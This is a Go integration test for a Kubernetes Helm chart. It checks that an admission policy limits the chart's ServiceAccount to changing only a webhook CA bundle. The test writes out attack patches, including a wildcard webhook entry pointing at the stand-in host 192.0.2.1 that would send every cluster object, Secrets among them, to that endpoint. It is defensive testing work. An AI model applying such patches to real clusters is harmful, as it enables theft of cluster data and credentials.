package chart_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"

	"github.com/probe-injector/probe-injector/test/charttools"
	"github.com/probe-injector/probe-injector/test/controlplane"
)

// refusedByPolicy is in every error of the policy that leaves our account nothing but the bundle.
const refusedByPolicy = "probe-injector-bundle-only.default"

// TestOurAccountMayChangeNothingButTheBundle holds the token of the chart's ServiceAccount, as somebody has it who took a
// replica over, and tries everything that would send more to him than the webhook gets. It is done twice: with what the
// chart permits, and as a cluster admin, so that the policy and not RBAC is what refuses.
func TestOurAccountMayChangeNothingButTheBundle(t *testing.T) {
	t.Parallel()
	const namespace = "default"
	plane := controlplane.ForTest(t, controlplane.Options{Controllers: true})
	c := &cluster{ControlPlane: plane, helm: newHelm(t, charttools.Helm4, plane)}
	c.helm.upgrade(t, namespace, "--set", "rbac.bundleOnlyPolicy=false")
	c.createForeign(t)
	thief := c.as(t, namespace, "probe-injector")

	steal := attack{"an entry for everything", types.StrategicMergePatchType, `{"webhooks":[` + stealsEverything + `]}`}
	if err := steal.on(t, thief, configurationName); err != nil {
		t.Fatalf("without the policy the attack is not the one that it is about: %v", err)
	}
	// The permissions of the release stay as they are, its configuration is as before.
	c.helm.must(t, "uninstall", "probe-injector", "--namespace", namespace)
	c.helm.upgrade(t, namespace, "--set", "rbac.recreateSecret=true")
	thief = c.as(t, namespace, "probe-injector")
	c.eventually(t, "the policy is in force", func() bool {
		err := steal.on(t, thief, configurationName, metav1.DryRunAll)
		return err != nil && strings.Contains(err.Error(), refusedByPolicy)
	})
	c.typesAreChecked(t)

	t.Run("with the chart's permissions", func(t *testing.T) { c.attacksAreRefused(t, thief, "") })
	t.Run("the bundle may change", func(t *testing.T) { c.bundleMayChange(t, thief) })
	admin := &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "the-thief-is-admin"},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
		Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "probe-injector", Namespace: namespace}},
	}
	if _, err := plane.Client().RbacV1().ClusterRoleBindings().Create(t.Context(), admin, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	c.eventually(t, "the account is admin", func() bool {
		_, err := thief.CoreV1().Secrets("kube-system").List(t.Context(), metav1.ListOptions{})
		return err == nil
	})
	t.Run("as a cluster admin", func(t *testing.T) {
		c.attacksAreRefused(t, thief, refusedByPolicy)
		c.wholeObjectsAreRefused(t, thief)
	})
	t.Run("it creates no Secret but its own", func(t *testing.T) { c.secretsAreRefused(t, thief, namespace) })
	t.Run("the preflight's configuration is protected, too", func(t *testing.T) { c.preflightIsProtected(t, thief) })
	t.Run("nobody else is concerned", c.othersMayChangeAll)
	t.Run("three hundred entries", func(t *testing.T) { c.manyEntries(t, thief) })
}

// stealsEverything is an entry that sends every object of the cluster to whoever added it.
const stealsEverything = `{"name":"steal.example.com","admissionReviewVersions":["v1"],"sideEffects":"None","failurePolicy":"Ignore",` +
	`"clientConfig":{"url":"https://192.0.2.1/"},"rules":[{"apiGroups":["*"],"apiVersions":["*"],"operations":["*"],"resources":["*/*"]}]}`

// attack is a patch of a webhook configuration.
type attack struct {
	name  string
	kind  types.PatchType
	patch string
}

func (a attack) on(t *testing.T, client kubernetes.Interface, name string, dryRun ...string) error {
	t.Helper()
	options := metav1.PatchOptions{FieldManager: "thief", DryRun: dryRun}
	if a.kind == types.ApplyPatchType {
		options.Force = new(true)
	}
	_, err := client.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(t.Context(), name, a.kind, []byte(a.patch), options)
	return err
}

// attacks are patches of the release's own configuration. Each changes one thing.
func attacks() []attack {
	entry := func(fields string) string {
		return `{"webhooks":[{"name":"annotated.probe-injector.dev",` + fields + `}]}`
	}
	merge := func(name, patch string) attack { return attack{name, types.StrategicMergePatchType, patch} }
	change := func(name, patch string) attack { return attack{name, types.JSONPatchType, patch} }
	return []attack{
		merge("an entry for everything", `{"webhooks":[`+stealsEverything+`]}`),
		change("the same before all others", `[{"op":"add","path":"/webhooks/0","value":`+stealsEverything+`}]`),
		change("the same in place of another", `[{"op":"replace","path":"/webhooks/1","value":`+stealsEverything+`}]`),
		{"the same in place of all", types.MergePatchType, `{"webhooks":[` + stealsEverything + `]}`},
		{"the same, applied by the server", types.ApplyPatchType, `{"apiVersion":"admissionregistration.k8s.io/v1",` +
			`"kind":"MutatingWebhookConfiguration","metadata":{"name":"` + configurationName + `"},"webhooks":[` + stealsEverything + `]}`},
		merge("rules for Secrets", entry(`"rules":[{"apiGroups":[""],"apiVersions":["v1"],"operations":["*"],"resources":["secrets"]}]`)),
		change("one more resource", `[{"op":"add","path":"/webhooks/0/rules/0/resources/-","value":"secrets"}]`),
		change("one more operation", `[{"op":"add","path":"/webhooks/0/rules/0/operations/-","value":"UPDATE"}]`),
		change("a URL in place of the Service", `[{"op":"replace","path":"/webhooks/0/clientConfig","value":{"url":"https://192.0.2.1/"}}]`),
		merge("the Service of somebody else", entry(`"clientConfig":{"service":{"name":"mine"}}`)),
		merge("a Service of another namespace", entry(`"clientConfig":{"service":{"namespace":"shop"}}`)),
		merge("another port", entry(`"clientConfig":{"service":{"port":8443}}`)),
		merge("another path", entry(`"clientConfig":{"service":{"path":"/"}}`)),
		change("no path", `[{"op":"remove","path":"/webhooks/0/clientConfig/service/path"}]`),
		merge("a bundle and another path", entry(`"clientConfig":{"caBundle":"b3Vycw==","service":{"path":"/"}}`)),
		change("no namespaceSelector", `[{"op":"remove","path":"/webhooks/0/namespaceSelector"}]`),
		change("a wider namespaceSelector", `[{"op":"remove","path":"/webhooks/0/namespaceSelector/matchExpressions/0"}]`),
		change("no objectSelector", `[{"op":"remove","path":"/webhooks/0/objectSelector"}]`),
		change("no conditions", `[{"op":"remove","path":"/webhooks/0/matchConditions"}]`),
		merge("another condition", entry(`"matchConditions":[{"name":"opts-in","expression":"true"}]`)),
		merge("another failurePolicy", entry(`"failurePolicy":"Fail"`)),
		merge("another timeout", entry(`"timeoutSeconds":10`)),
		merge("another matchPolicy", entry(`"matchPolicy":"Exact"`)),
		merge("another reinvocationPolicy", entry(`"reinvocationPolicy":"IfNeeded"`)),
		merge("other side effects", entry(`"sideEffects":"NoneOnDryRun"`)),
		merge("other versions of reviews", entry(`"admissionReviewVersions":["v1","v1beta1"]`)),
		change("one entry less", `[{"op":"remove","path":"/webhooks/1"}]`),
		change("no entry", `[{"op":"remove","path":"/webhooks"}]`),
		change("another order", `[{"op":"move","from":"/webhooks/1","path":"/webhooks/0"}]`),
		change("another name of an entry", `[{"op":"replace","path":"/webhooks/1/name","value":"other.example.com"}]`),
		merge("a label", `{"metadata":{"labels":{"app.kubernetes.io/managed-by":"thief"}}}`),
		merge("no labels", `{"metadata":{"labels":null}}`),
		merge("an annotation", `{"metadata":{"annotations":{"cert-manager.io/inject-ca-from":"shop/mine"}}}`),
		merge("a finalizer", `{"metadata":{"finalizers":["example.com/stays"]}}`),
		merge("an owner", `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"Namespace","name":"shop","uid":"1"}]}}`),
	}
}

// attacksAreRefused tries each attack. Without what the error has to contain, any refusal will do.
func (c *cluster) attacksAreRefused(t *testing.T, thief kubernetes.Interface, want string) {
	before := c.configuration(t)
	for _, a := range attacks() {
		t.Run(a.name, func(t *testing.T) {
			if err := a.on(t, thief, configurationName); err == nil || !strings.Contains(err.Error(), want) {
				t.Errorf("the error is %v, want one with %q", err, want)
			}
		})
	}
	foreign := attack{"a bundle elsewhere", types.JSONPatchType, `[{"op":"add","path":"/webhooks/0/clientConfig/caBundle","value":"b3Vycw=="}]`}
	if err := foreign.on(t, thief, "foreign"); err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("the bundle of a configuration of others: the error is %v, want one with %q", err, want)
	}
	if after := c.configuration(t); after.ResourceVersion != before.ResourceVersion {
		t.Error("the configuration has changed")
	}
}

// wholeObjectsAreRefused replaces, creates and deletes, which RBAC forbids anyhow.
func (c *cluster) wholeObjectsAreRefused(t *testing.T, thief kubernetes.Interface) {
	mutating := thief.AdmissionregistrationV1().MutatingWebhookConfigurations()
	validating := thief.AdmissionregistrationV1().ValidatingWebhookConfigurations()
	replaced, added := c.configuration(t), c.configuration(t)
	var theft admissionregistrationv1.MutatingWebhook
	if err := json.Unmarshal([]byte(stealsEverything), &theft); err != nil {
		t.Fatal(err)
	}
	replaced.Webhooks[0].Rules[0].Resources = []string{"secrets"}
	added.Webhooks = append(added.Webhooks, theft)
	attempts := map[string]func() error{
		"another resource by PUT": func() error {
			_, err := mutating.Update(t.Context(), replaced, metav1.UpdateOptions{})
			return err
		},
		"an entry by PUT": func() error {
			_, err := mutating.Update(t.Context(), added, metav1.UpdateOptions{})
			return err
		},
		"a configuration of its own": func() error {
			_, err := mutating.Create(t.Context(), foreignConfiguration("new"), metav1.CreateOptions{})
			return err
		},
		"a validating one": func() error {
			_, err := validating.Create(t.Context(), &admissionregistrationv1.ValidatingWebhookConfiguration{
				ObjectMeta: metav1.ObjectMeta{Name: "new"},
			}, metav1.CreateOptions{})
			return err
		},
		"one that is applied": func() error {
			return attack{"", types.ApplyPatchType, `{"apiVersion":"admissionregistration.k8s.io/v1",` +
				`"kind":"MutatingWebhookConfiguration","metadata":{"name":"new"},"webhooks":[` + stealsEverything + `]}`}.on(t, thief, "new")
		},
		"a validating one of others": func() error {
			patch := []byte(`{"webhooks":[{"name":"foreign.example.com","clientConfig":{"caBundle":"b3Vycw=="}}]}`)
			_, err := validating.Patch(t.Context(), "foreign", types.StrategicMergePatchType, patch, metav1.PatchOptions{})
			return err
		},
		"none": func() error { return mutating.Delete(t.Context(), configurationName, metav1.DeleteOptions{}) },
		"none of many": func() error {
			return mutating.DeleteCollection(t.Context(), metav1.DeleteOptions{}, metav1.ListOptions{})
		},
	}
	for name, attempt := range attempts {
		t.Run(name, func(t *testing.T) {
			if err := attempt(); err == nil || !strings.Contains(err.Error(), refusedByPolicy) {
				t.Errorf("the error is %v", err)
			}
		})
	}
}

// bundleMayChange: by every kind of patch that leaves the rest alone.
func (c *cluster) bundleMayChange(t *testing.T, thief kubernetes.Interface) {
	patches := []attack{
		{"in one entry", types.StrategicMergePatchType, `{"webhooks":[{"name":"annotated.probe-injector.dev","clientConfig":{"caBundle":"b25l"}}]}`},
		{"as JSON patch", types.JSONPatchType, `[{"op":"replace","path":"/webhooks/0/clientConfig/caBundle","value":"dHdv"}]`},
		{"and is emptied", types.JSONPatchType, `[{"op":"remove","path":"/webhooks/0/clientConfig/caBundle"}]`},
		{"and nothing changes", types.StrategicMergePatchType, `{}`},
	}
	for _, p := range patches {
		if err := p.on(t, thief, configurationName); err != nil {
			t.Errorf("%s: %v", p.name, err)
		}
	}
	now := c.configuration(t)
	var entries []string
	for _, w := range now.Webhooks {
		entries = append(entries, fmt.Sprintf(`{"name":%q,"clientConfig":{"caBundle":"b3Vycw=="}}`, w.Name))
	}
	all := attack{"", types.StrategicMergePatchType, fmt.Sprintf(`{"metadata":{"resourceVersion":%q},"webhooks":[%s]}`,
		now.ResourceVersion, strings.Join(entries, ","))}
	if err := all.on(t, thief, configurationName); err != nil {
		t.Errorf("in all entries, as the server writes it: %v", err)
	}
	for name, bundle := range c.bundles(t) {
		if bundle != "ours" {
			t.Errorf("%s has the bundle %q", name, bundle)
		}
	}
}

// preflightIsProtected: the configuration of the other kind is ours as well.
func (c *cluster) preflightIsProtected(t *testing.T, thief kubernetes.Interface) {
	configurations := thief.AdmissionregistrationV1().ValidatingWebhookConfigurations()
	patch := func(fields string) error {
		text := `{"webhooks":[{"name":"workloads.preflight.probe-injector.dev",` + fields + `}]}`
		_, err := configurations.Patch(t.Context(), "probe-injector", types.StrategicMergePatchType, []byte(text), metav1.PatchOptions{})
		return err
	}
	if err := patch(`"clientConfig":{"caBundle":"b3Vycw=="}`); err != nil {
		t.Errorf("its bundle: %v", err)
	}
	for _, fields := range []string{
		`"failurePolicy":"Fail"`, `"clientConfig":{"service":{"path":"/"}}`, `"matchConditions":[{"$patch":"replace"}]`,
		`"rules":[{"apiGroups":[""],"apiVersions":["v1"],"operations":["*"],"resources":["secrets"]}]`,
	} {
		if err := patch(fields); err == nil || !strings.Contains(err.Error(), refusedByPolicy) {
			t.Errorf("%s: the error is %v", fields, err)
		}
	}
	text := []byte(`{"webhooks":[` + stealsEverything + `]}`)
	_, err := configurations.Patch(t.Context(), "probe-injector", types.StrategicMergePatchType, text, metav1.PatchOptions{})
	if err == nil || !strings.Contains(err.Error(), refusedByPolicy) {
		t.Errorf("an entry for everything: the error is %v", err)
	}
}

// secretsAreRefused: in the place of its own, too, if it is of another type, and of its own name elsewhere.
func (c *cluster) secretsAreRefused(t *testing.T, thief kubernetes.Interface, namespace string) {
	if err := c.Client().CoreV1().Secrets(namespace).Delete(t.Context(), authorityName, metav1.DeleteOptions{}); err != nil {
		t.Fatal(err)
	}
	for name, secret := range map[string]*corev1.Secret{
		"of another name":           {ObjectMeta: metav1.ObjectMeta{Name: "other", Namespace: namespace}},
		"of a name that is made up": {ObjectMeta: metav1.ObjectMeta{GenerateName: authorityName, Namespace: namespace}},
		"of another namespace":      {ObjectMeta: metav1.ObjectMeta{Name: authorityName, Namespace: "kube-system"}},
		"that is filled with a token": {
			ObjectMeta: metav1.ObjectMeta{Name: authorityName, Namespace: namespace, Annotations: map[string]string{corev1.ServiceAccountNameKey: "default"}},
			Type:       corev1.SecretTypeServiceAccountToken,
		},
	} {
		_, err := thief.CoreV1().Secrets(secret.Namespace).Create(t.Context(), secret, metav1.CreateOptions{})
		if err == nil || !strings.Contains(err.Error(), "may create no Secret but the one of its authority") {
			t.Errorf("one %s: the error is %v", name, err)
		}
	}
	own := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: authorityName}}
	if _, err := thief.CoreV1().Secrets(namespace).Create(t.Context(), own, metav1.CreateOptions{}); err != nil {
		t.Errorf("its own: %v", err)
	}
}

// othersMayChangeAll: an admin is not concerned.
func (c *cluster) othersMayChangeAll(t *testing.T) {
	relabel := attack{"", types.StrategicMergePatchType, `{"metadata":{"labels":{"mine":"1"}},"webhooks":[{"name":"annotated.probe-injector.dev","timeoutSeconds":2}]}`}
	if err := relabel.on(t, c.Client(), configurationName); err != nil {
		t.Error(err)
	}
}

// manyEntries: the expressions stay within what the API server lets them cost, and refuse as well as before.
func (c *cluster) manyEntries(t *testing.T, thief kubernetes.Interface) {
	now := c.configuration(t)
	var entries []string
	for i := range 300 {
		more := *now.Webhooks[1].DeepCopy()
		more.Name = fmt.Sprintf("more-%d.probe-injector.dev", i)
		now.Webhooks = append(now.Webhooks, more)
		entries = append(entries, fmt.Sprintf(`{"name":%q,"clientConfig":{"caBundle":"b3Vycw=="}}`, more.Name))
	}
	if _, err := c.Client().AdmissionregistrationV1().MutatingWebhookConfigurations().Update(t.Context(), now, metav1.UpdateOptions{}); err != nil {
		t.Fatal(err)
	}
	all := attack{"", types.StrategicMergePatchType, `{"webhooks":[` + strings.Join(entries, ",") + `]}`}
	if err := all.on(t, thief, configurationName); err != nil {
		t.Errorf("the bundle of all of them: %v", err)
	}
	last := attack{"", types.StrategicMergePatchType, `{"webhooks":[{"name":"more-299.probe-injector.dev","timeoutSeconds":9}]}`}
	if err := last.on(t, thief, configurationName); err == nil || !strings.Contains(err.Error(), "no other field of an entry") {
		t.Errorf("another timeout of the last one: the error is %v", err)
	}
}

// typesAreChecked waits for the API server's judgement of the expressions, which kube-controller-manager writes.
func (c *cluster) typesAreChecked(t *testing.T) {
	t.Helper()
	policies := c.Client().AdmissionregistrationV1().ValidatingAdmissionPolicies()
	c.eventually(t, "the types of the policy are checked", func() bool {
		all, err := policies.List(t.Context(), metav1.ListOptions{})
		if err != nil || len(all.Items) != 2 {
			t.Fatalf("there are %d policies: %v", len(all.Items), err)
		}
		for _, policy := range all.Items {
			if policy.Status.TypeChecking == nil || policy.Status.ObservedGeneration != policy.Generation {
				return false
			}
			for _, warning := range policy.Status.TypeChecking.ExpressionWarnings {
				t.Errorf("%s: %s: %s", policy.Name, warning.FieldRef, warning.Warning)
			}
		}
		return true
	})
}
